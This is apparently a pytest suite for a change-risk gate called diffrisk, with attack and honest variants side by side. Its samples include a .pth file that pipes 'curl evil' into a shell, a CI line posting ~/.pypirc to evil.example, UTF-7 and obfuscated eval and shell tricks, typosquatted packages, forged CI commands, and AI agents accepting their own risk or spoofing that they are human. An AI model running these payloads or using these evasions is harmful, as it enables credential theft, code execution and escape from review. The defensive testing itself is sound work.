"""The gate holds against the change's own author (docs/security.md): one test per threat class,
each with the attack and the honest version side by side, on real repositories made by real git.

The project's committed policy blocks at L2 (``fail_level = "L2"``), so every attack that would
lower a change below L2 shows as exit 0 where the gate fails, and as exit 1 where it holds.
"""

from __future__ import annotations

import json
import os
from typing import Any

import pytest

from diffrisk.main import main
from testing.repo import Repo
from testing.run import check_json

POLICY = (
    '[project]\nname = "shop"\ndependencies = ["requests>=2"]\noptional-dependencies = { test = ["pytest"] }\n\n'
    '[tool.diffrisk]\nfail_level = "L2"\n'
)


@pytest.fixture
def shop(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> Repo:
    for name in ("CI", "GITHUB_ACTIONS", "CLAUDECODE", "DIFFRISK_ACCEPT", "DIFFRISK_AI"):
        monkeypatch.delenv(name, raising=False)
    repo.write("pyproject.toml", POLICY)
    repo.write("shop/__init__.py", "")
    repo.write("shop/orders.py", 'def total(items):\n    """Sum."""\n    return sum(items)\n')
    repo.write("tests/test_orders.py", "from shop.orders import total\n\n\ndef test_total():\n    assert total([1, 2]) == 3\n")
    repo.commit("initial")
    return repo


def rules(report: dict[str, Any]) -> list[tuple[str, str, int]]:
    """The findings that count: introduced, not removed; readability's aside."""
    return sorted(
        (item["rule"], item["path"], item["line"]) for item in report["findings"]
        if not item["removed"] and not item["rule"].startswith("DR-R")
    )


def outcome(report: dict[str, Any]) -> tuple[str, bool, list[str]]:
    return report["level"], report["verdict"]["within_policy"], report["level_reasons"]


# -- 1. acceptance comes from outside the change ---------------------------------------------------


def test_the_change_cannot_accept_or_disown_its_own_risk(shop: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    shop.write("shop/run.py", "import subprocess\n\n\ndef run(command):\n    return subprocess.call(command, shell=True)\n")
    shop.stage()
    # Honest: a person at the keyboard accepts the staged change by name.
    code, report = check_json(shop, "--accept", "Ana <ana@example.com>")
    assert (code, report["verdict"]["accepted_by"], report["verdict"]["accepted_via"]) == (0, "Ana <ana@example.com>", "flag")
    # Attack: an agent accepts its own change, or declares itself a person first.
    monkeypatch.setenv("CLAUDECODE", "1")
    monkeypatch.setenv("DIFFRISK_AI", "0")
    code, report = check_json(shop, "--accept", "Ana <ana@example.com>")
    assert (code, report["verdict"]["accepted_by"], report["authorship"]["ai_authored"]) == (1, None, True)
    assert report["notes"][-1] == (
        "--accept 'Ana <ana@example.com>' does not accept this change: an agent cannot accept its own risk "
        "(environment:CLAUDECODE (claude))"
    )
    # Attack: the commit carries its own acceptance.
    monkeypatch.delenv("CLAUDECODE")
    monkeypatch.delenv("DIFFRISK_AI")
    shop.commit("runner\n\nRisk-Accepted-By: Ana <ana@example.com>")
    code, report = check_json(shop, "--base", "HEAD~1")
    assert (code, report["verdict"]["accepted_by"]) == (1, None)
    assert report["notes"][-1].startswith("a Risk-Accepted-By trailer names Ana <ana@example.com>, but a change cannot accept its own risk")


def test_a_push_from_an_agents_shell_is_ai_authored(shop: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    # The agent committed with --no-verify and plain metadata; the pre-push hook runs in its shell.
    start = shop.git("rev-parse", "HEAD").strip()
    shop.write("shop/names.py", "GREETING = 'hello'\n")
    end = shop.commit("greeting")
    monkeypatch.setenv("PRE_COMMIT_FROM_REF", start)
    monkeypatch.setenv("PRE_COMMIT_TO_REF", end)
    assert check_json(shop)[1]["authorship"]["ai_authored"] is False
    monkeypatch.setenv("CLAUDECODE", "1")
    assert check_json(shop)[1]["authorship"] == {"ai_authored": True, "reason": "environment:CLAUDECODE (claude)", "lacking_trailer": []}
    # A range named on the command line is judged by its commits alone (CI has no agent's shell).
    assert check_json(shop, "--range", f"{start}..{end}")[1]["authorship"]["ai_authored"] is False


# -- 2. policy comes from the trusted side -------------------------------------------------------------

RUNNER = "import subprocess\n\n\ndef run(command):\n    return subprocess.call(command, shell=True)\n"


def test_a_change_cannot_relax_the_policy_that_judges_it(shop: Repo) -> None:
    # Attack: the same change raises the fail level and excludes its own risky file.
    shop.write("pyproject.toml", POLICY.replace('fail_level = "L2"', 'fail_level = "L3"\nextend_exclude = ["shop/"]'))
    shop.write("shop/run.py", RUNNER)
    shop.stage()
    code, report = check_json(shop)
    assert (code, report["verdict"]["fail_level"], report["files"][1]["skipped"]) == (1, "L2", None)
    assert ("DR-S010", "pyproject.toml", 7) in rules(report)
    assert [(floor["kind"], floor["level"]) for floor in report["floors"]] == [
        ("security:severity", "L2"), ("smell:DR-S010", "L2"), ("security:shell", "L2"),
    ]
    # Unstaged, the edit is not even part of the change: HEAD's policy judges alone.
    shop.git("reset", "-q", "--", "pyproject.toml")
    code, report = check_json(shop)
    assert (code, report["verdict"]["fail_level"], rules(report)[-1][0]) == (1, "L2", "B602")
    # Honest: tightening the policy is a small finding (DR-S012, L1), and the stricter policy applies.
    shop.git("checkout", "-q", "--", "pyproject.toml")
    shop.git("rm", "-q", "--cached", "shop/run.py")
    shop.write("pyproject.toml", POLICY.replace('fail_level = "L2"', 'fail_level = "L2"\ncritical_paths = ["shop/payments/"]'))
    shop.stage("pyproject.toml")
    code, report = check_json(shop)
    assert (code, rules(report), outcome(report)) == (
        0, [("DR-S012", "pyproject.toml", 8)],
        ("L1", True, ["raised to L1: DR-S012 the change tightens the policy that judges it: the diffrisk configuration at pyproject.toml:8"]),
    )


def test_a_link_cannot_replace_the_config_file(shop: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    shop.write("ci/diffrisk.toml", '[tool.diffrisk]\nfail_level = "L2"\n')
    shop.commit("policy for CI")
    os.remove(shop.path / "ci" / "diffrisk.toml")
    os.symlink("/dev/null", shop.path / "ci" / "diffrisk.toml")
    shop.write("shop/run.py", RUNNER)
    shop.stage()
    # The link is read as what git holds for it (its target's name), which is no policy: fail closed.
    assert main(["-C", str(shop.path), "check", "--config", "ci/diffrisk.toml"]) == 2
    assert capsys.readouterr().err == (
        "diffrisk: error: ci/diffrisk.toml as the change leaves it: not valid TOML: Invalid statement (at line 1, column 1)\n"
    )


def test_a_policy_edit_outside_pyproject_is_read_too(shop: Repo) -> None:
    shop.write(".gitattributes", "shop/*.py linguist-generated\n")
    shop.write(".github/CODEOWNERS", "* @mallory\n")
    shop.stage()
    code, report = check_json(shop)
    assert (code, rules(report)) == (1, [("DR-S010", ".gitattributes", 1), ("DR-S010", ".github/CODEOWNERS", 1)])
    assert [item["message"] for item in report["findings"]] == [
        "the change edits the policy that judges it: git attributes (what counts as generated, binary or text)",
        "the change edits the policy that judges it: CODEOWNERS (who may approve)",
    ]


# -- 3. suppressions do not lower what they hide ---------------------------------------------------


def test_a_nosec_the_change_adds_hides_nothing(shop: Repo) -> None:
    shop.write("shop/run.py", RUNNER.replace("shell=True)", "shell=True)  # nosec B602"))
    shop.stage()
    code, report = check_json(shop)
    assert (code, outcome(report)[:2]) == (1, ("L2", False))
    shell = next(item for item in report["findings"] if item["rule"] == "B602")
    assert (shell["line"], shell["suppression"], shell["weakness"]) == (5, "# nosec", "shell")
    assert [(item["finding"]["rule"], item["reason"], item["counted"]) for item in report["suppressed"]] == [
        ("B602", "# nosec", True),
    ]
    # Honest: a # nosec already on a line the change does not touch keeps its issue out.
    shop.commit("runner")
    shop.write("shop/run.py", RUNNER.replace("shell=True)", "shell=True)  # nosec B602") + "\n\ndef name():\n    return 'run'\n")
    shop.stage()
    code, report = check_json(shop)
    assert (code, rules(report), outcome(report)[:2]) == (0, [], ("L0", True))


def test_an_old_suppression_over_an_edited_statement_covers_nothing_new(shop: Repo) -> None:
    shop.write("shop/run.py", (
        "import subprocess\n\n\ndef run(command):\n"
        "    return subprocess.call(  # nosec B602 -- reviewed: fixed command\n        'ls', shell=True,\n    )\n"
    ))
    shop.commit("runner")
    # Attack: the reviewed statement now runs the caller's command, under the old # nosec.
    shop.write("shop/run.py", (
        "import subprocess\n\n\ndef run(command):\n"
        "    return subprocess.call(  # nosec B602 -- reviewed: fixed command\n        command, shell=True,\n    )\n"
    ))
    shop.stage()
    code, report = check_json(shop)
    introduced = [(item["rule"], item["line"], item["suppression"]) for item in report["findings"] if not item["removed"]]
    assert (code, report["level"], introduced) == (1, "L2", [("B602", 5, "# nosec")])


def test_an_ignore_the_change_adds_keeps_its_floor(shop: Repo) -> None:
    shop.write("shop/run.py", RUNNER.replace("shell=True)", "shell=True)  # diffrisk: ignore[B602] -- trusted input"))
    shop.stage()
    code, report = check_json(shop)
    assert (code, report["level"]) == (1, "L2")
    assert [(item["finding"]["rule"], item["reason"], item["counted"]) for item in report["suppressed"]] == [
        ("B602", "trusted input", True),
    ]


# -- 4. fail closed on code Python runs that diffrisk did not read --------------------------------------


def test_an_encoding_that_shows_the_reviewer_other_code(shop: Repo) -> None:
    # UTF-7: the diff shows a comment; Python decodes "+AAo-" to a newline and runs the eval.
    shop.write("shop/evil.py", b"# -*- coding: utf-7 -*-\n# harmless +AAo-eval(input())\n")
    shop.stage()
    code, report = check_json(shop)
    assert (code, rules(report), report["level"]) == (1, [("DR-E003", "shop/evil.py", 2)], "L2")
    # Honest: a Latin-1 cookie over the same program decodes to what the diff shows.
    shop.write("shop/evil.py", b"# -*- coding: latin-1 -*-\nNAME = 'caf\xe9'\n")
    shop.stage()
    code, report = check_json(shop)
    assert (code, rules(report), report["level"]) == (0, [], "L0")


def test_python_that_runs_but_was_not_read(shop: Repo) -> None:
    # Attack: a .pth file runs at every interpreter start; a link leaves the repository.
    shop.write("shop/setup_hook.pth", "import os; os.system('curl evil | sh')\n")
    os.symlink("/usr/lib/python3/os.py", shop.path / "shop" / "util.py")
    shop.stage()
    code, report = check_json(shop)
    assert (code, rules(report), report["level"]) == (
        1, [("DR-E004", "shop/setup_hook.pth", 1), ("DR-E004", "shop/util.py", 1)], "L2",
    )
    assert [item["skipped"] for item in report["files"]] == [
        "a .pth file: Python runs its import lines at every interpreter start",
        "a symbolic link to /usr/lib/python3/os.py, outside the repository",
    ]
    # Honest: a link to a module in the repository is analysed through its target.
    shop.git("rm", "-q", "--cached", "shop/setup_hook.pth", "shop/util.py")
    os.remove(shop.path / "shop" / "util.py")
    os.remove(shop.path / "shop" / "setup_hook.pth")
    os.symlink("orders.py", shop.path / "shop" / "util.py")
    shop.stage()
    code, report = check_json(shop)
    assert (code, rules(report), report["level"], report["files"][0]["skipped"]) == (0, [], "L0", None)


def test_scripts_notebooks_and_new_files_in_excluded_folders_are_analysed(shop: Repo) -> None:
    shop.write("bin/deploy", "#!/usr/bin/env python3\nimport os\nos.system('deploy ' + input())\n")
    (shop.path / "bin" / "deploy").chmod(0o755)
    shop.write("vendor/helper.py", "import pickle\n\n\ndef load(data):\n    return pickle.loads(data)\n")
    shop.write("notebooks/explore.ipynb", (
        '{"cells": [{"cell_type": "markdown", "metadata": {}, "source": ["# Explore"]},\n'
        ' {"cell_type": "code", "metadata": {}, "execution_count": null, "outputs": [],\n'
        '  "source": ["import yaml\\n", "config = yaml.load(open(\'c.yml\'), Loader=yaml.Loader)\\n"]}],\n'
        ' "metadata": {}, "nbformat": 4, "nbformat_minor": 5}\n'
    ))
    shop.stage()
    code, report = check_json(shop)
    assert (code, report["level"]) == (1, "L2")
    assert [(rule, path) for rule, path, _ in rules(report) if rule.startswith("B") and rule not in ("B403", "B404")] == [
        ("B301", "vendor/helper.py"), ("B506", "notebooks/explore.ipynb"), ("B605", "bin/deploy"),
    ]
    assert [item["skipped"] for item in report["files"]] == [None, None, None]
    # Honest: an edit of a file that was already vendored is left out of the score; a weakness it
    # adds still sets its floor.
    shop.commit("tools")
    shop.write("vendor/helper.py", "import os\nimport pickle\n\n\ndef load(data):\n    os.system(data)\n    return pickle.loads(data)\n")
    shop.stage()
    code, report = check_json(shop)
    assert (code, rules(report), report["files"][0]["skipped"]) == (1, [("B605", "vendor/helper.py", 6)], "excluded by pattern 'vendor/'")
    shop.write("vendor/helper.py", "import pickle\n\n\ndef load(data):\n    return pickle.loads(data)\n\n\nVERSION = 2\n")
    shop.stage()
    code, report = check_json(shop)
    assert (code, rules(report), report["level"]) == (0, [], "L0")


# -- 5. security floors by weakness ------------------------------------------------------------------


@pytest.mark.parametrize(("code", "rule", "weakness"), [
    ("import subprocess as sp\n\n\ndef run(command):\n    return sp.run(command, **{'shell': True})\n", "DR-W002", "shell"),
    ("import requests\n\nSKIP = False\n\n\ndef fetch(url):\n    return requests.get(url, verify=SKIP)\n", "DR-W003", "tls-verification-off"),
    ("import requests\n\nsession = requests.Session()\nsession.verify = False\n", "DR-W003", "tls-verification-off"),
    ("import importlib\n\n\ndef plugin(name):\n    return importlib.import_module(name)\n", "DR-W001", "code-execution"),
    ("import os\n\n\ndef call(name):\n    return getattr(os, name)()\n", "DR-W001", "code-execution"),
    ("def calc(text):\n    return eval(text)\n", "B307", "code-execution"),
    ("import yaml\n\n\ndef read(text):\n    return yaml.load(text, Loader=yaml.Loader)\n", "B506", "deserialization"),
    ("def query(db, name):\n    return db.execute(\"SELECT * FROM users WHERE name = '%s'\" % name)\n", "B608", "sql-built-from-strings"),
])
def test_each_weakness_is_read_line_by_line(shop: Repo, code: str, rule: str, weakness: str) -> None:
    shop.write("shop/risky.py", code)
    shop.stage()
    exit_code, report = check_json(shop)
    found = [item for item in report["findings"] if item["weakness"] == weakness]
    assert (exit_code, report["level"], [item["rule"] for item in found]) == (1, "L2", [rule])
    assert f"security:{weakness}" in [floor["kind"] for floor in report["floors"]]


@pytest.mark.parametrize("code", [
    "import subprocess\n\n\ndef run(command):\n    return subprocess.run(command, check=True)\n",
    "import requests\n\n\ndef fetch(url):\n    return requests.get(url, verify=True, timeout=5)\n",
    "def calc():\n    return eval('1 + 1')\n",
    "import yaml\n\n\ndef read(text):\n    return yaml.safe_load(text)\n",
    "def query(db, name):\n    return db.execute('SELECT * FROM users WHERE name = ?', (name,))\n",
    "import subprocess\n\n\ndef build():\n    return subprocess.run(['bash', '-c', 'make test'], check=True)\n",
    "import re\n\ncompile = re.compile\n\n\ndef word(pattern):\n    return compile(pattern)\n",
    "def run(executor, thing):\n    return executor.execute(f'Update the {thing} now')\n",
    "import yaml\n\n\ndef read(stream):\n    return yaml.load(stream, Loader=yaml.SafeLoader)\n",
    "def field(record, name):\n    return getattr(record, name)\n",
    "AWS_KEY_IN_DOCS = 'AKIAIOSFODNN7EXAMPLE'\n",
])
def test_the_honest_versions_have_no_weakness(shop: Repo, code: str) -> None:
    shop.write("shop/risky.py", code)
    shop.stage()
    exit_code, report = check_json(shop)
    assert (exit_code, [item["weakness"] for item in report["findings"] if item["weakness"]]) == (0, [])
    assert report["level"] in ("L0", "L1")


def test_a_team_relaxes_a_weakness_floor_in_its_committed_policy(shop: Repo) -> None:
    shop.write("pyproject.toml", POLICY + '\n[tool.diffrisk.weaknesses]\nsql-built-from-strings = "L1"\n')
    shop.commit("our queries are built by a checked builder")
    shop.write("shop/risky.py", "def query(db, name):\n    return db.execute(\"SELECT * FROM t WHERE n = '%s'\" % name)\n")
    shop.stage()
    code, report = check_json(shop)
    assert (code, report["level"], [(floor["kind"], floor["level"]) for floor in report["floors"]]) == (
        0, "L1", [("security:severity", "L1"), ("security:sql-built-from-strings", "L1")],
    )


# -- 6. what gets installed, or run with the repository's credentials ---------------------------------


@pytest.mark.parametrize(("path", "text"), [
    ("setup.py", "from setuptools import setup\n\nsetup(name='shop', install_requires=['requests', 'evil-pkg'])\n"),
    ("setup.cfg", "[options]\ninstall_requires =\n    requests\n    evil-pkg\n"),
    ("requirements/dev.txt", "pytest\nevil-pkg @ https://example.com/evil.tar.gz\n"),
    ("contrib/requirements/default.txt", "kombu>=1.0.2\n"),
    ("constraints.txt", "requests==2.0.0\n"),
    ("tox.ini", "[testenv]\ncommands = pytest\n"),
    ("noxfile.py", "import nox\n\n\n@nox.session\ndef tests(session):\n    session.run('pytest')\n"),
    ("Makefile", "test:\n\tpytest\n"),
])
def test_dependency_and_ci_files_are_sensitive(shop: Repo, path: str, text: str) -> None:
    shop.write(path, text)
    shop.stage()
    code, report = check_json(shop)
    assert (code, report["level"], [(rule, file) for rule, file, _ in rules(report) if rule == "DR-S007"]) == (0, "L1", [("DR-S007", path)])


def test_a_setup_py_version_bump_is_no_dependency_change(shop: Repo) -> None:
    setup = "from setuptools import setup\n\nREQUIRES = ['requests>=2']\n\nsetup(name='shop', version='1.0', install_requires=REQUIRES)\n"
    shop.write("setup.py", setup)
    shop.commit("setup.py")
    shop.write("setup.py", setup.replace("version='1.0'", "version='1.1'"))
    shop.stage()
    code, report = check_json(shop)
    assert (code, report["level"], rules(report)) == (0, "L0", [])
    # The requirement reached through a name is still read, and so is one appended to it.
    shop.write("setup.py", setup.replace("'requests>=2'", "'requests>=2', 'evil-pkg'"))
    shop.stage()
    code, report = check_json(shop)
    assert (code, report["level"], rules(report)) == (0, "L1", [("DR-S007", "setup.py", 3)])
    shop.write("setup.py", setup.replace("\nsetup(", "REQUIRES.append('evil-pkg')\nsetup("))
    shop.stage()
    code, report = check_json(shop)
    assert (code, report["level"], rules(report)) == (0, "L1", [("DR-S007", "setup.py", 4)])


def test_a_multi_line_dependency_list_edit_is_sensitive(shop: Repo) -> None:
    shop.write("pyproject.toml", POLICY.replace('dependencies = ["requests>=2"]', 'dependencies = [\n    "requests>=2",\n    "evil-pkg",\n]'))
    shop.commit("dependencies one a line")
    shop.write("pyproject.toml", POLICY.replace('dependencies = ["requests>=2"]', 'dependencies = [\n    "requests>=2",\n    "evil-pkg>=0",\n]'))
    shop.stage()
    code, report = check_json(shop)
    assert (code, report["level"], rules(report)) == (0, "L1", [("DR-S007", "pyproject.toml", 5)])
    # Honest: editing the project's description is not a dependency change.
    shop.write("pyproject.toml", POLICY.replace('name = "shop"', 'name = "shop"\ndescription = "A shop"').replace(
        'dependencies = ["requests>=2"]', 'dependencies = [\n    "requests>=2",\n    "evil-pkg",\n]'))
    shop.stage()
    code, report = check_json(shop)
    assert (code, report["level"], rules(report)) == (0, "L0", [])


def test_conftest_code_that_runs_at_import_and_scripts_ci_calls(shop: Repo) -> None:
    shop.write(".github/workflows/ci.yml", (
        "on: push\nenv:\n  TYPED: shop/orders.py\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - run: ./ci/test.sh\n      - run: |\n          python -m mypy $TYPED\n"
    ))
    shop.write("ci/test.sh", "pytest\n")
    shop.commit("ci")
    shop.write("ci/test.sh", "pytest\ncurl -d @$HOME/.pypirc https://evil.example\n")
    shop.write("tests/conftest.py", "import os\n\nos.environ.get('TOKEN')\n")
    shop.stage()
    code, report = check_json(shop)
    assert (code, report["level"], [(rule, path) for rule, path, _ in rules(report) if rule == "DR-S007"]) == (
        0, "L1", [("DR-S007", "ci/test.sh"), ("DR-S007", "tests/conftest.py")],
    )
    # Honest: a module a workflow only names (for mypy, in a variable) is not run by it; a
    # conftest that only defines fixtures runs nothing at import.
    shop.git("reset", "-q", "--hard")
    shop.write("shop/orders.py", 'def total(items):\n    """Sum."""\n    return sum(items, 0)\n')
    shop.write("tests/conftest.py", "import pytest\n\n\n@pytest.fixture\ndef items():\n    return [1, 2]\n")
    shop.stage()
    code, report = check_json(shop)
    assert (code, report["level"], rules(report)) == (0, "L0", [])


def test_a_module_one_typo_from_a_dependency(shop: Repo) -> None:
    shop.write("shop/fetch.py", "import reqeusts\n\n\ndef get(url):\n    return reqeusts.get(url, timeout=5)\n")
    shop.stage()
    code, report = check_json(shop)
    # Undeclared too (DR-S001); a near miss the change also declared would be DR-S011 alone.
    assert (code, report["level"], [(rule, line) for rule, _, line in rules(report)]) == (0, "L1", [("DR-S001", 1), ("DR-S011", 1)])
    assert next(item["message"] for item in report["findings"] if item["rule"] == "DR-S011") == (
        "`reqeusts` is one typo away from `requests`: check it is the package meant, not a look-alike"
    )
    shop.write("shop/fetch.py", "import requests\n\n\ndef get(url):\n    return requests.get(url, timeout=5)\n")
    shop.stage()
    code, report = check_json(shop)
    assert (code, report["level"], rules(report)) == (0, "L0", [])


# -- 7. tests weakened or switched off ----------------------------------------------------------------


def test_a_skipped_test_needs_a_reviewer_and_more_so_from_an_agent(shop: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    skipped = "import pytest\n\nfrom shop.orders import total\n\n\n@pytest.mark.skip\ndef test_total():\n    assert total([1, 2]) == 3\n"
    shop.write("tests/test_orders.py", skipped)
    shop.stage()
    code, report = check_json(shop)
    assert (code, outcome(report)) == (0, ("L1", True, ["raised to L1: tests weakened or switched off (DR-S002 at tests/test_orders.py:6)"]))
    monkeypatch.setenv("CLAUDECODE", "1")
    code, report = check_json(shop)
    assert (code, outcome(report)) == (1, ("L2", False, [
        "raised to L2: tests weakened or switched off by an AI-authored change (DR-S002 at tests/test_orders.py:6)",
    ]))
    # Honest: a new test, by the same agent, is no weakening.
    shop.write("tests/test_orders.py", "from shop.orders import total\n\n\ndef test_total():\n    assert total([1, 2]) == 3\n\n\n"
               "def test_empty():\n    assert total([]) == 0\n")
    shop.stage()
    code, report = check_json(shop)
    assert (code, report["level"], rules(report)) == (0, "L0", [])


def test_a_deleted_assertion_counts(shop: Repo) -> None:
    shop.write("tests/test_orders.py", "from shop.orders import total\n\n\ndef test_total():\n    assert total([1, 2])\n")
    shop.stage()
    code, report = check_json(shop)
    assert (code, report["level"], rules(report)) == (0, "L1", [("DR-S003", "tests/test_orders.py", 4)])


# -- 8. output cannot steer CI -------------------------------------------------------------------------


def test_workflow_commands_in_names_and_code_are_neutralised(shop: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    shop.write("shop/\n  ::add-mask::x.py", "VALUE = 1\n")
    shop.write("shop/##[error]forged.py", "VALUE = 2\n")
    shop.write("shop/tool.py", "def run():\n    return eval(input())  # ::stop-commands::token ##[error]forged\n")
    shop.stage()
    for format in ("text", "markdown", "json", "sarif", "rdjson", "gitlab", "html", "github"):
        main(["-C", str(shop.path), "check", "--format", format])
        out = capsys.readouterr().out
        assert not any(line.lstrip().startswith("::") for line in out.splitlines() if not line.startswith("::error ")
                       and not line.startswith("::warning ") and not line.startswith("::notice ")), format
        assert "##[" not in out, format
        assert format not in ("text", "markdown", "json", "html") or "forged" in out, format  # the name is there


# -- 9. moved code is moved only when nothing it depends on changed -----------------------------------


def test_an_unchanged_call_in_a_function_whose_inputs_changed(shop: Repo) -> None:
    shop.write("shop/calc.py", "def calc():\n    text = '1 + 1'\n    return eval(text)\n")
    shop.commit("calc")
    # Attack: the eval line is the same text, but what it evaluates is now the caller's.
    shop.write("shop/calc.py", "def calc(text):\n    return eval(text)\n")
    shop.stage()
    code, report = check_json(shop)
    assert (code, report["level"], rules(report)) == (1, "L2", [("B307", "shop/calc.py", 2)])
    # Honest: the same function moved to another file, unchanged, is not new.
    shop.git("reset", "-q", "--hard")
    shop.git("mv", "shop/calc.py", "shop/maths.py")
    shop.write("shop/maths.py", "\n\ndef calc():\n    text = '1 + 1'\n    return eval(text)\n")
    shop.stage()
    code, report = check_json(shop)
    assert (code, rules(report)) == (0, [])


@pytest.mark.parametrize(("before", "after", "rule", "line", "names"), [
    # The sink line edited too (a comment), so it would match the old issue in the same function.
    ("import subprocess\n\n\ndef clean():\n    cmd = 'rm -rf /tmp/cache'\n    return subprocess.call(cmd, shell=True)\n",
     "import subprocess\n\n\ndef clean():\n    cmd = input('command: ')\n    return subprocess.call(cmd, shell=True)  # run it\n",
     "B602", 6, ["cmd"]),
    # An import swapped under an untouched call.
    ("from json import loads\n\n\ndef read(data):\n    return loads(data)\n",
     "from pickle import loads\n\n\ndef read(data):\n    return loads(data)\n", "B301", 5, ["loads"]),
    # A module-level constant that now comes from outside.
    ("import subprocess\n\nCMD = 'ls -l'\n\n\ndef run():\n    return subprocess.call(CMD, shell=True)\n",
     "import subprocess\nimport sys\n\nCMD = sys.argv[1]\n\n\ndef run():\n    return subprocess.call(CMD, shell=True)\n",
     "B602", 8, ["CMD"]),
    # Only the value line of a multi-line assignment changed.
    ("def calc():\n    text = (\n        '1 + 1'\n    )\n    return eval(text)\n",
     "def calc(request):\n    text = (\n        request.args['q']\n    )\n    return eval(text)\n", "B307", 5, ["text"]),
    # The helper that computes the input changed, the call did not.
    ("def expression():\n    return '1 + 1'\n\n\ndef calc():\n    return eval(expression())\n",
     "import sys\n\n\ndef expression():\n    return sys.argv[1]\n\n\ndef calc():\n    return eval(expression())\n",
     "B307", 9, ["expression"]),
    # Only a deletion: the "--" that kept the name from reading as an option went, nothing was added.
    ("import subprocess\n\n\ndef clean(name):\n    cmd = [\n        'ls',\n        '--',\n        name,\n    ]\n"
     "    return subprocess.call(' '.join(cmd), shell=True)\n",
     "import subprocess\n\n\ndef clean(name):\n    cmd = [\n        'ls',\n        name,\n    ]\n"
     "    return subprocess.call(' '.join(cmd), shell=True)\n",
     "B602", 9, ["cmd"]),
])
def test_a_call_whose_input_changed_is_new(shop: Repo, before: str, after: str, rule: str, line: int, names: list[str]) -> None:
    shop.write("shop/calc.py", before)
    shop.commit("calc")
    shop.write("shop/calc.py", after)
    shop.stage()
    code, report = check_json(shop)
    found = [(item["rule"], item["line"], item["new_input"]) for item in report["findings"]
             if item["weakness"] and not item["removed"]]
    assert (code, report["level"], found) == (1, "L2", [(rule, line, names)])


def test_an_old_ignore_does_not_silence_a_call_whose_input_changed(shop: Repo) -> None:
    shop.write("shop/calc.py", 'def run(text="1 + 1"):\n    return eval(text)  # diffrisk: ignore[B307] -- constant default only\n')
    shop.commit("calc")
    shop.write("shop/calc.py", 'def run(text):\n    return eval(text)  # diffrisk: ignore[B307] -- constant default only\n')
    shop.stage()
    code, report = check_json(shop)
    assert (code, report["level"], [(item["finding"]["rule"], item["counted"]) for item in report["suppressed"]]) == (
        1, "L2", [("B307", True)],
    )
    # Honest: reordering imports or editing an unrelated line rebinds nothing.
    shop.git("reset", "-q", "--hard")
    shop.write("shop/other.py", "import os\nimport subprocess\n\n\ndef run():\n    return subprocess.call('ls', shell=True)\n")
    shop.commit("other")
    shop.write("shop/other.py", "import subprocess\nimport os\n\n\ndef run():\n    os.getcwd()\n    return subprocess.call('ls', shell=True)\n")
    shop.stage()
    code, report = check_json(shop)
    assert (code, [item["rule"] for item in report["findings"] if item["weakness"] and not item["removed"]]) == (0, [])


# -- 5 (continued). the spellings bandit does not read --------------------------------------------------


@pytest.mark.parametrize(("code", "rule", "weakness"), [
    ("import asyncio\n\n\nasync def run(cmd):\n    return await asyncio.create_subprocess_shell(cmd)\n", "DR-W002", "shell"),
    ("import subprocess\n\nOPTIONS = {'shell': True}\n\n\ndef run(cmd):\n    return subprocess.call(cmd, **OPTIONS)\n",
     "DR-W002", "shell"),
    ("import subprocess\n\n\ndef run(cmd):\n    return subprocess.run(['bash', '-c', cmd])\n", "DR-W002", "shell"),
    ("import os\n\n\ndef run(cmd):\n    os.execl('/bin/sh', 'sh', '-c', cmd)\n", "DR-W002", "shell"),
    ("import os\n\nrun = os.system\n\n\ndef go(cmd):\n    return run(cmd)\n", "DR-W002", "shell"),
    ("E = eval\n\n\ndef calc(text):\n    return E(text)\n", "DR-W001", "code-execution"),
    ("def calc(text):\n    return __builtins__['eval'](text)\n", "DR-W001", "code-execution"),
    ("import sys\n\n\ndef calc(text):\n    return sys.modules['builtins'].eval(text)\n", "DR-W001", "code-execution"),
    ("import os\n\n\ndef run(cmd):\n    return getattr(os, 'sys' + 'tem')(cmd)\n", "DR-W002", "shell"),
    ("exec('\\x69mport os; os.system(\"id\")')\n", "B102", "code-execution"),
    ("import pickle\n\nload = pickle.loads\n\n\ndef read(data):\n    return load(data)\n", "DR-W004", "deserialization"),
    ("def read(data):\n    return __import__('pickle').loads(data)\n", "DR-W004", "deserialization"),
    ("import requests\n\n\ndef get(url):\n    check: bool = False\n    return requests.get(url, verify=check, timeout=5)\n",
     "DR-W003", "tls-verification-off"),
    ("import requests\n\n\ndef get(url):\n    return requests.get(url, timeout=5, **{'verify': False})\n", "DR-W003", "tls-verification-off"),
    ("import requests\n\nsession = requests.Session()\nsetattr(session, 'verify', False)\n", "DR-W003", "tls-verification-off"),
    ("STRIPE_API_KEY = 'sk_live_4eC39HqLyjWDarjtT1zdp7dc'\n", "DR-W005", "hardcoded-credentials"),
    ("def find(cursor, name):\n    query = \"SELECT * FROM users WHERE name = '%s'\"\n    return cursor.execute(query % name)\n",
     "DR-W006", "sql-built-from-strings"),
    ("import string\n\n\ndef find(cur, name):\n    return cur.execute(string.Template('SELECT * FROM t WHERE n = $n').substitute(n=name))\n",
     "DR-W006", "sql-built-from-strings"),
    ("def run(text):\n    return (lambda f: f(text))(eval)\n", "DR-W001", "code-execution"),
    ("import code\n\n\ndef run(src):\n    return code.InteractiveInterpreter().runsource(src)\n", "DR-W001", "code-execution"),
    ("import pickle\n\n\nclass Codec:\n    load = staticmethod(pickle.loads)\n", "DR-W004", "deserialization"),
    ("import numpy\n\n\ndef load(path):\n    return numpy.load(path, allow_pickle=True)\n", "DR-W004", "deserialization"),
    ("import os\n\nos.environ['CURL_CA_BUNDLE'] = ''\n", "DR-W003", "tls-verification-off"),
    ("import requests\n\n\nclass Settings:\n    verify = False\n\n\ndef get(url):\n"
     "    return requests.get(url, verify=Settings.verify, timeout=5)\n", "DR-W003", "tls-verification-off"),
])
def test_weaknesses_in_spellings_bandit_does_not_read(shop: Repo, code: str, rule: str, weakness: str) -> None:
    shop.write("shop/risky.py", code)
    shop.stage()
    exit_code, report = check_json(shop)
    found = [(item["rule"], item["weakness"]) for item in report["findings"] if item["weakness"] == weakness]
    assert (exit_code, report["level"], found[:1]) == (1, "L2", [(rule, weakness)])


def test_a_notebook_shell_command_that_runs_downloaded_text(shop: Repo) -> None:
    def notebook(*cells: str) -> str:
        sources = ",\n".join(
            '  {"cell_type": "code", "metadata": {}, "execution_count": null, "outputs": [], "source": ' + json.dumps(cell) + "}"
            for cell in cells
        )
